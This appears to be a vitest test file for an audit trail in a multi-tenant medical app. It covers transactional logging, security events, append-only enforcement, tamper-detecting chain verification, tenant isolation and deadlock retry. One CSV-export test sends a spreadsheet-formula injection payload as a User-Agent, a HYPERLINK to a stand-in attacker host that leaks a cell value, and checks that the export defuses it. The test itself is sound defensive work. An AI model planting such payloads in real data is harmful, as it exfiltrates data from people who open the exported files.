import { and, eq, type SQL, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents } from '../src/platform/audit/audit.schema.js';
import { verifyChain } from '../src/platform/audit/audit-verify.js';
import { CountersRepository } from '../src/platform/db/counters.js';
import { actingAs, type Work } from '../src/platform/db/unit-of-work.js';
import { InvitationsRepository } from '../src/modules/invitations/invitations.repository.js';
import { invitations } from '../src/platform/auth/auth.schema.js';
import {
  as,
  buildTestApp,
  createTenant,
  PASSWORD,
  type Tenant,
  tenantContext,
  type TestApp,
} from './helpers/test-app.js';

let t: TestApp;
let a: Tenant;

beforeAll(async () => {
  t = await buildTestApp({ SIGNIN_IP_LIMIT_PER_MINUTE: '1000' });
  a = await createTenant(t.app);
});
afterAll(() => t.close());

const eventsOf = (organizationId: string, action: string) =>
  t.database.db
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.organizationId, organizationId), eq(auditEvents.action, action)));

/** What someone with database access could do: the append-only trigger dropped for one statement. */
async function behindTheAppsBack(statement: SQL): Promise<void> {
  const { db } = t.database;
  await db.execute(sql`alter table audit_events disable trigger audit_events_append_only`);
  try {
    await db.execute(statement);
  } finally {
    await db.execute(sql`alter table audit_events enable trigger audit_events_append_only`);
  }
}

/** Security events are recorded after the answer: wait for the group commit to write them. */
const settled = () => t.app.auditLog.drain();

describe('writes', () => {
  it('record who changed what, in the same transaction as the change', async () => {
    const tenant = await createTenant(t.app);
    const res = await as(t.app, tenant.users.admin.token, { 'user-agent': 'ward-console/2.1' })({
      method: 'PATCH',
      url: `/api/v1/users/${tenant.users.nurse.id}/role`,
      payload: { role: 'doctor' },
    });
    expect(res.statusCode).toBe(200);
    const [event] = await eventsOf(tenant.organizationId, 'users.role-change');
    expect(event).toMatchObject({
      actorType: 'user',
      actorId: tenant.users.admin.id,
      actorRole: 'admin',
      resourceType: 'user',
      resourceId: tenant.users.nurse.id,
      outcome: 'success',
      userAgent: 'ward-console/2.1',
      requestId: res.headers['x-request-id'],
      ip: '127.0.0.1',
    });
  });

  it('leave no event when the change is refused, and the change leaves nothing without its event', async () => {
    const tenant = await createTenant(t.app);
    const refused = await as(
      t.app,
      tenant.users.admin.token,
    )({
      method: 'PATCH',
      url: `/api/v1/users/${tenant.users.admin.id}/role`,
      payload: { role: 'nurse' },
    });
    expect(refused.statusCode).toBe(409);
    expect(await eventsOf(tenant.organizationId, 'users.role-change')).toEqual([]);

    // A service that forgets its audit event cannot commit: the unit of work rolls it back.
    const ctx = tenantContext(tenant, 'admin', 'test-forgotten-audit');
    const forgetful = t.app.uow.write(actingAs(ctx, tenant.organizationId), async (work) => {
      await work.repo(InvitationsRepository).create({
        email: 'unrecorded@example.test',
        role: 'nurse',
        inviterId: tenant.users.admin.id,
        expiresAt: new Date(Date.now() + 60_000),
        tokenHash: 'x'.repeat(64),
      });
    });
    await expect(forgetful).rejects.toThrow(/must record an audit event/);
    const left = await t.database.db.select().from(invitations).where(eq(invitations.email, 'unrecorded@example.test'));
    expect(left).toEqual([]);
  });

  it('name the API key, not only its owner, when a key made the change', async () => {
    const tenant = await createTenant(t.app);
    const created = await as(
      t.app,
      tenant.users.admin.token,
    )({
      method: 'POST',
      url: '/api/auth/api-key/create',
      payload: { name: 'hr bridge' },
    });
    const { key, id: keyId } = created.json();
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/invitations',
      headers: { 'x-api-key': key },
      payload: { email: 'new.nurse@example.test', role: 'nurse' },
    });
    expect(res.statusCode).toBe(201);
    const [event] = await eventsOf(tenant.organizationId, 'invitations.create');
    expect(event).toMatchObject({ actorType: 'api-key', actorId: keyId, actorRole: 'admin' });
    await settled();
    expect(await eventsOf(tenant.organizationId, 'auth.api-key-create')).toMatchObject([
      { actorId: tenant.users.admin.id, resourceType: 'api-key', resourceId: keyId },
    ]);
  });
});

describe('units of work inside a write', () => {
  it('join its transaction: no second connection, and their events commit or roll back with it', async () => {
    const tenant = await createTenant(t.app);
    const ctx = tenantContext(tenant, 'admin', 'nested-units-of-work');
    const run = (fail: boolean) =>
      t.app.uow.write(ctx, async (work) => {
        work.audit({ action: 'test.outer', resourceType: 'test' });
        // Another module's service, called inside this write (on PGlite this used to wait forever).
        const members = await t.app.uow.read(ctx, async (inner) => {
          inner.audit({ action: 'test.inner-read', resourceType: 'test' });
          return t.app.users.list(ctx, { limit: 5 });
        });
        expect(members.data.length).toBeGreaterThan(0);
        if (fail) throw new Error('rolled back');
      });
    await expect(run(true)).rejects.toThrow('rolled back');
    expect(await eventsOf(tenant.organizationId, 'test.inner-read')).toEqual([]);
    await run(false);
    const [outer] = await eventsOf(tenant.organizationId, 'test.outer');
    const [inner] = await eventsOf(tenant.organizationId, 'test.inner-read');
    // All three in the one transaction: the write, the read, and the list the read made.
    const [listed] = await eventsOf(tenant.organizationId, 'users.list');
    expect([outer!.seq, listed!.seq, inner!.seq]).toEqual([outer!.seq, outer!.seq + 1, outer!.seq + 2]);
    expect(listed!.requestId).toBe('nested-units-of-work');
  });

  it("run their before-commit actions in the outer write's transaction, and what those register after its commit", async () => {
    const tenant = await createTenant(t.app);
    const ctx = tenantContext(tenant, 'admin', 'nested-before-commit');
    const seen: string[] = [];
    await t.app.uow.write(ctx, async (work) => {
      work.audit({ action: 'test.outer', resourceType: 'test' });
      await t.app.uow.write(ctx, async (inner) => {
        inner.audit({ action: 'test.inner', resourceType: 'test' });
        inner.beforeCommit(async () => {
          seen.push('before commit');
          // Registered after the inner write ended: it still runs, once the outer one commits.
          inner.afterCommit(async () => {
            seen.push('after commit');
          });
        });
      });
      seen.push('outer done');
    });
    expect(seen).toEqual(['outer done', 'before commit', 'after commit']);
  });
});

describe('reads', () => {
  it('are on the trail by the time the answer arrives', async () => {
    const res = await as(t.app, a.users.manager.token)({ method: 'GET', url: '/api/v1/users' });
    expect(res.statusCode).toBe(200);
    const rows = await t.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.requestId, res.headers['x-request-id'] as string));
    expect(rows).toMatchObject([
      { action: 'users.list', actorId: a.users.manager.id, organizationId: a.organizationId },
    ]);
  });

  it('of concurrent requests are written together (group commit), each before its answer', async () => {
    const before = t.app.auditLog.stats();
    const responses = await Promise.all(
      Array.from({ length: 60 }, () => as(t.app, a.users.admin.token)({ method: 'GET', url: '/api/v1/users' })),
    );
    const ids = responses.map((res) => res.headers['x-request-id'] as string);
    const after = t.app.auditLog.stats();
    const rows = await t.database.db
      .select({ requestId: auditEvents.requestId })
      .from(auditEvents)
      .where(sql`${auditEvents.requestId} in ${ids}`);
    expect(rows).toHaveLength(60);
    const batches = after.batches - before.batches;
    expect(after.events - before.events).toBe(60);
    expect(batches).toBeLessThan(60);
  });
});

describe('security events', () => {
  it('sign-in success and failure, sign-out, password change and two-factor land in the organization', async () => {
    const tenant = await createTenant(t.app);
    const { email, id } = tenant.users.doctor;
    const wrong = await t.app.inject({
      method: 'POST',
      url: '/api/auth/sign-in/email',
      payload: { email, password: 'not-the-password-at-all' },
    });
    expect(wrong.statusCode).toBe(401);
    const right = await t.app.inject({
      method: 'POST',
      url: '/api/auth/sign-in/email',
      payload: { email, password: PASSWORD },
    });
    const token = right.json().token as string;
    await as(
      t.app,
      token,
    )({
      method: 'POST',
      url: '/api/auth/change-password',
      payload: { currentPassword: PASSWORD, newPassword: 'another-long-password-1' },
    });
    await as(t.app, token)({ method: 'POST', url: '/api/auth/sign-out', payload: {} });
    await settled();
    const rows = await t.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.organizationId, tenant.organizationId), eq(auditEvents.resourceId, id)));
    const seen = rows.map((row) => `${row.action}:${row.outcome}:${row.actorType}`);
    expect(seen).toEqual(
      expect.arrayContaining([
        'auth.sign-in:failed:anonymous',
        'auth.sign-in:success:user',
        'auth.password-change:success:user',
        'auth.sign-out:success:user',
      ]),
    );
  });

  it('a sign-in failure for an email nobody has goes to the platform chain', async () => {
    await t.app.inject({
      method: 'POST',
      url: '/api/auth/sign-in/email',
      payload: { email: 'nobody@example.test', password: 'whatever-password-1' },
    });
    await settled();
    const rows = await t.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.chainId, 'platform'), eq(auditEvents.action, 'auth.sign-in')));
    expect(rows.some((row) => row.outcome === 'failed' && row.organizationId === null)).toBe(true);
  });

  it('a permission denial (403) is recorded with the role that was refused', async () => {
    const res = await as(t.app, a.users.nurse.token)({ method: 'GET', url: '/api/v1/audit-events' });
    expect(res.statusCode).toBe(403);
    await settled();
    const rows = await t.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.requestId, res.headers['x-request-id'] as string));
    expect(rows).toMatchObject([
      {
        action: 'access.denied',
        outcome: 'denied',
        actorId: a.users.nurse.id,
        actorRole: 'nurse',
        organizationId: a.organizationId,
        resourceId: 'GET /api/v1/audit-events',
      },
    ]);
  });
});

describe('the trail itself', () => {
  it('numbers its events with ids in time order (UUIDv7: the time in milliseconds first)', async () => {
    const before = Date.now();
    const first = await as(t.app, a.users.manager.token)({ method: 'GET', url: '/api/v1/users' });
    const second = await as(t.app, a.users.manager.token)({ method: 'GET', url: '/api/v1/users' });
    const idOf = async (requestId: string) =>
      (
        await t.database.db.select({ id: auditEvents.id }).from(auditEvents).where(eq(auditEvents.requestId, requestId))
      )[0]!.id;
    const ids = [
      await idOf(first.headers['x-request-id'] as string),
      await idOf(second.headers['x-request-id'] as string),
    ];
    const millis = ids.map((id) => {
      expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      return Number.parseInt(id.replace(/-/g, '').slice(0, 12), 16);
    });
    expect(millis[0]).toBeGreaterThanOrEqual(before - 1000);
    expect(millis[1]).toBeGreaterThanOrEqual(millis[0]!);
    expect(millis[1]).toBeLessThanOrEqual(Date.now() + 1000);
  });

  it('is append-only: UPDATE, DELETE and TRUNCATE are refused by the database', async () => {
    const attempts = [
      sql`update audit_events set action = 'nothing'`,
      sql`delete from audit_events`,
      sql`truncate audit_events`,
    ];
    for (const statement of attempts) {
      await expect(t.database.db.execute(statement)).rejects.toThrow();
    }
  });

  it('is read by admins and managers with filters and pages, and the reading is recorded', async () => {
    const tenant = await createTenant(t.app);
    for (const role of ['doctor', 'nurse', 'operator'] as const) {
      await as(
        t.app,
        tenant.users.admin.token,
      )({
        method: 'PATCH',
        url: `/api/v1/users/${tenant.users[role].id}/role`,
        payload: { role: 'manager' },
      });
    }
    const call = as(t.app, tenant.users.manager.token);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res = await call({
        method: 'GET',
        url: `/api/v1/audit-events?action=users.role-change&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
      });
      expect(res.statusCode).toBe(200);
      seen.push(...res.json().data.map((e: { resourceId: string }) => e.resourceId));
      cursor = res.json().nextCursor;
    } while (cursor);
    expect(seen.sort()).toEqual([tenant.users.doctor.id, tenant.users.nurse.id, tenant.users.operator.id].sort());

    const byActor = await call({
      method: 'GET',
      url: `/api/v1/audit-events?actor=${tenant.users.manager.id}&limit=100`,
    });
    expect(byActor.json().data.every((e: { actorId: string }) => e.actorId === tenant.users.manager.id)).toBe(true);
    expect(byActor.json().data.some((e: { action: string }) => e.action === 'audit.read')).toBe(true);

    const future = await call({ method: 'GET', url: '/api/v1/audit-events?from=2999-01-01T00:00:00Z' });
    expect(future.json().data).toEqual([]);
    const bad = await call({ method: 'GET', url: '/api/v1/audit-events?from=yesterday&outcome=maybe' });
    expect(bad.statusCode).toBe(400);
  });

  it('exports the same selection as CSV, and the export is recorded', async () => {
    const tenant = await createTenant(t.app);
    await as(
      t.app,
      tenant.users.admin.token,
    )({
      method: 'PATCH',
      url: `/api/v1/users/${tenant.users.nurse.id}/role`,
      payload: { role: 'doctor' },
    });
    const res = await as(
      t.app,
      tenant.users.admin.token,
    )({
      method: 'GET',
      url: '/api/v1/audit-events/export.csv?action=users.role-change',
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe(
      'id,seq,occurredAt,actorType,actorId,actorRole,action,resourceType,resourceId,patientId,outcome,ip,userAgent,requestId,patientIds',
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(tenant.users.nurse.id);
    expect(await eventsOf(tenant.organizationId, 'audit.export')).toHaveLength(1);
  });

  it('exports what clients wrote (their user agent) as text, never as a spreadsheet formula', async () => {
    const tenant = await createTenant(t.app);
    await t.app.inject({
      method: 'POST',
      url: '/api/auth/sign-in/email',
      headers: { 'user-agent': '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
      payload: { email: tenant.users.operator.email, password: 'not-the-password-at-all' },
    });
    await settled();
    const res = await as(
      t.app,
      tenant.users.admin.token,
    )({
      method: 'GET',
      url: '/api/v1/audit-events/export.csv?action=auth.sign-in&outcome=failed',
    });
    const row = res.body.trim().split('\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(`);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });

  it('verifies, and names the row that was changed behind the application', async () => {
    const tenant = await createTenant(t.app);
    const admin = as(t.app, tenant.users.admin.token);
    for (const role of ['doctor', 'nurse'] as const) {
      await admin({
        method: 'PATCH',
        url: `/api/v1/users/${tenant.users[role].id}/role`,
        payload: { role: 'manager' },
      });
    }
    const intact = await admin({ method: 'GET', url: '/api/v1/audit-events/verify' });
    expect(intact.statusCode).toBe(200);
    expect(intact.json()).toMatchObject({ chainId: tenant.organizationId, broken: null });
    expect(intact.json().events).toBeGreaterThan(2);

    const [target] = await eventsOf(tenant.organizationId, 'users.role-change');
    await behindTheAppsBack(sql`update audit_events set actor_id = 'someone-else' where id = ${target!.id}`);
    const tampered = await admin({ method: 'GET', url: '/api/v1/audit-events/verify' });
    expect(tampered.json().broken).toEqual({ seq: target!.seq, problem: 'altered', eventId: target!.id });
  });

  it("covers a list's patients: one taken out of its event breaks the chain there", async () => {
    const tenant = await createTenant(t.app);
    const operator = as(t.app, tenant.users.operator.token);
    for (const givenName of ['Ada', 'Ben', 'Cy']) {
      const made = await operator({
        method: 'POST',
        url: '/api/v1/patients',
        payload: { givenName, familyName: 'Chainer', birthDate: '1970-01-01', sex: 'unknown' },
      });
      expect(made.statusCode, made.body).toBe(201);
    }
    const listed = await operator({ method: 'GET', url: '/api/v1/patients?q=chainer' });
    expect(listed.json<{ data: unknown[] }>().data).toHaveLength(3);
    const admin = as(t.app, tenant.users.admin.token);
    const csv = await admin({ method: 'GET', url: '/api/v1/audit-events/export.csv?action=patients.list' });
    const [target] = await eventsOf(tenant.organizationId, 'patients.list');
    expect(target!.patientIds).toHaveLength(3);
    expect(csv.body).toContain(`,${target!.patientIds!.join(' ')}\n`);
    // Filtered by one of them, the export names that one only.
    const one = target!.patientIds![1]!;
    const forOne = await admin({ method: 'GET', url: `/api/v1/audit-events/export.csv?patientId=${one}` });
    expect(forOne.body).toContain(`,${one}\n`);
    for (const other of target!.patientIds!.filter((id) => id !== one)) expect(forOne.body).not.toContain(other);
    expect((await admin({ method: 'GET', url: '/api/v1/audit-events/verify' })).json().broken).toBeNull();

    await behindTheAppsBack(sql`update audit_events set patient_ids = patient_ids[2:] where id = ${target!.id}`);
    const tampered = await admin({ method: 'GET', url: '/api/v1/audit-events/verify' });
    expect(tampered.json().broken).toEqual({ seq: target!.seq, problem: 'altered', eventId: target!.id });
  });

  it('detects a removed row', async () => {
    const tenant = await createTenant(t.app);
    const admin = as(t.app, tenant.users.admin.token);
    for (const role of ['doctor', 'nurse'] as const) {
      await admin({
        method: 'PATCH',
        url: `/api/v1/users/${tenant.users[role].id}/role`,
        payload: { role: 'manager' },
      });
    }
    const [first] = await eventsOf(tenant.organizationId, 'users.role-change');
    await behindTheAppsBack(sql`delete from audit_events where id = ${first!.id}`);
    const report = await verifyChain(t.database.db, tenant.organizationId);
    expect(report.broken).toMatchObject({ seq: first!.seq, problem: 'missing' });
  });

  it("is never another tenant's to read", async () => {
    const b = await createTenant(t.app);
    const res = await as(t.app, b.users.admin.token)({ method: 'GET', url: '/api/v1/audit-events?limit=100' });
    expect(res.statusCode).toBe(200);
    const organizations = new Set(res.json().data.map(() => b.organizationId));
    const rows = await t.database.db
      .select({ id: auditEvents.id })
      .from(auditEvents)
      .where(eq(auditEvents.organizationId, a.organizationId));
    const aIds = new Set(rows.map((row) => row.id));
    expect(res.json().data.some((e: { id: string }) => aIds.has(e.id))).toBe(false);
    expect(organizations.size).toBeLessThanOrEqual(1);
  });
});

describe.skipIf(!process.env.DATABASE_URL)('a write caught in a deadlock', () => {
  it('runs again, whole, from a fresh unit of work, and both writes commit', async () => {
    const tenant = await createTenant(t.app);
    const ctx = tenantContext(tenant, 'admin', 'deadlock-retry');
    const take = (work: Work, name: string) => work.repo(CountersRepository).take(name, 1);
    await t.app.uow.write(ctx, async (work) => {
      await take(work, 'deadlock-x');
      await take(work, 'deadlock-y');
      work.audit({ action: 'test.deadlock', resourceType: 'test' });
    });
    // Each write locks one counter, waits until the other has locked the other one, then wants it.
    let arrived = 0;
    let bothHold!: () => void;
    const barrier = new Promise<void>((resolve) => (bothHold = resolve));
    const runs = { forward: 0, backward: 0 };
    const writes: Partial<Record<keyof typeof runs, Promise<void>>> = {};
    const other = { forward: 'backward', backward: 'forward' } as const;
    const write = (run: keyof typeof runs, first: string, second: string) =>
      (writes[run] = t.app.uow.write(ctx, async (work) => {
        runs[run]++;
        // Run again, it lets the other write commit first, so the two cannot deadlock twice (on a busy
        // machine the retry could otherwise lock the row before the other, woken, has taken it).
        if (runs[run] > 1) await writes[other[run]];
        await take(work, first);
        if (runs[run] === 1) {
          if (++arrived === 2) bothHold();
          await barrier;
        }
        await take(work, second);
        work.audit({ action: 'test.deadlock', resourceType: 'test' });
      }));
    await Promise.all([write('forward', 'deadlock-x', 'deadlock-y'), write('backward', 'deadlock-y', 'deadlock-x')]);
    // PostgreSQL ended one of them (40P01); it ran again and committed after the other.
    expect(runs.forward + runs.backward).toBe(3);
    const counters = await t.app.uow.write(ctx, async (work) => {
      work.audit({ action: 'test.deadlock', resourceType: 'test' });
      return [await take(work, 'deadlock-x'), await take(work, 'deadlock-y')];
    });
    expect(counters).toEqual([4, 4]);
    expect(await eventsOf(tenant.organizationId, 'test.deadlock')).toHaveLength(4);
  });
});
